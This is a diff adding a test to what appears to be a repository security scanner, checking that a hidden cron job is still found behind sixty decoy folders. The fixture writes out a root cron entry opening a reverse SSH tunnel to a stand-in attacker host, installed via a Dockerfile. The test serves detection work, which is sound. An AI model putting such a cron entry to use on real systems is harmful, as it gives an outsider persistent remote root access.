@@ -176,3 +176,18 @@ def test_nothing_that_builds_or_launches_is_passed_by_in_silence(
     report = check([written(tmp_path, {".git/HEAD": "", name: data, "x.sh": "true\n"})])
     assert report.complete != incomplete
     assert [note.path for note in report.notifications] == [name.encode()]
+
+
+def test_no_number_of_files_and_folders_hides_the_one_behind_them(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    job = "* * * * * root ssh -N " + "-" + "R 22:localhost:22 a@evil.example\n"
+    folders = {f"a{n}/rootfs/etc/x": "" for n in range(60)}
+    build = "FROM a\nCOPY . /app/\nCOPY job /etc/cron.d/\n"
+    root = written(
+        tmp_path, {".git/HEAD": "", **folders, "z/rootfs/etc/cron.d/x": job, "job": job, "Dockerfile": build}
+    )
+    found = {(rule, file) for rule, file, *_ in said(check([root]))}
+    assert found == {("tunnel/reverse-ssh", "job"), ("tunnel/reverse-ssh", "z/rootfs/etc/cron.d/x")}
+    monkeypatch.setattr("scanner.checking.placing.PLACED", 10)
+    assert not check([root]).complete
